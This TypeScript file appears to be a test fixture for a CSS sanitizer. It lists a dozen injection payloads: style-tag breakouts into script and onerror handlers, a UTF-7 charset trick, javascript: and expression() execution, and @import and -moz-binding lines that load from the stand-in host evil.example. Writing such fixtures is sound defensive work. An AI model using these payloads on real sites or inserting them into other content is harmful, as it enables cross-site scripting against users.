/** Style sheets that try to break out of their sheet, to run, or to load what the policy refuses. */
export const CSS_PAYLOADS: readonly string[] = [
  '</style><script>alert(1)</script>',
  '</style><img src=x onerror=alert(1)>',
  '<!-- --><script>alert(1)</script>',
  '@import url("https://evil.example/x.css");',
  '@import "data:text/css,*{color:red}";',
  '@charset "utf-7"; +ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  'body{background:url("javascript:alert(1)")}',
  'body{behavior:url(x.htc);-moz-binding:url("https://evil.example/x.xml#x")}',
  'body{width:expression(alert(1))}',
  '}}}*{color:red',
  '/*',
  '\\3c script>alert(1)\\3c /script>',
];
